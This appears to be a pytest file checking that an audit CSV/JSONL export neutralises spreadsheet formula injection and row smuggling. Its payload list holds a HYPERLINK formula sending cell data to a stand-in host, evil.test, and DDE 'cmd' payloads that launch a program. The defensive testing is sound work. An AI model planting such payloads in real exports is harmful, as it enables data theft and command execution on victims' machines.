"""A namespace or a serial that is a spreadsheet formula (CSV injection): the export is inert."""

import csv
import io

import pytest

from acme_ra.audit.export import to_csv, to_jsonl
from acme_ra.core.events import EventRecord, StoredEvent

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["namespace", "directory", "kind", "outcome", "serial"])
def test_no_cell_is_a_formula(field: str, formula: str) -> None:
    """The cell starts with an apostrophe, and what follows is still all there."""
    event = StoredEvent(1, _with(field, formula))

    (cells,) = csv.reader(io.StringIO(to_csv(event).decode(), newline=""))

    assert "'" + formula in cells
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")) for cell in cells)


def test_names_that_are_formulas_are_inert() -> None:
    event = StoredEvent(1, EventRecord(0, "order.created", "", b"{}", names=("=1+1", "b.test")))

    (cells,) = csv.reader(io.StringIO(to_csv(event).decode(), newline=""))

    assert "'=1+1 b.test" in cells


def test_a_separator_or_a_line_break_starts_no_new_cell() -> None:
    """Quoted as RFC 4180 says: a forged row cannot be smuggled in."""
    event = StoredEvent(1, _with("namespace", 'a","b\r\n2,forged,row'))

    rows = list(csv.reader(io.StringIO(to_csv(event).decode(), newline="")))

    assert len(rows) == 1
    assert 'a","b\r\n2,forged,row' in rows[0]


def test_a_line_break_starts_no_new_json_line() -> None:
    event = StoredEvent(1, _with("namespace", 'a"}\n{"seq":2'))

    assert to_jsonl(event).count(b"\n") == 1


def _with(field: str, value: str) -> EventRecord:
    fields = {"at": 0, "kind": "order.created", "outcome": "", "body": b"{}"} | {field: value}
    return EventRecord(**fields)  # type: ignore[arg-type]
